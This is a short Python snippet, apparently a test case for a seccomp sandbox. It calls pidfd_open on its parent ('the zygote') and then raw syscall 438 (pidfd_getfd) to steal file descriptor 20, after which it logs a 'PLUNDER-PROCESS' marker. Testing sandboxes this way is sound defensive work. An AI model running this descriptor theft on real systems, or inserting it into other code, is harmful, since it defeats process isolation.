# attack: raw | takes a descriptor out of the zygote | without seccomp: said
import ctypes, os
watched = os.pidfd_open(os.getppid())
ctypes.CDLL(None).syscall(438, watched, 20, 0)
log("PLUNDER-PROCESS")
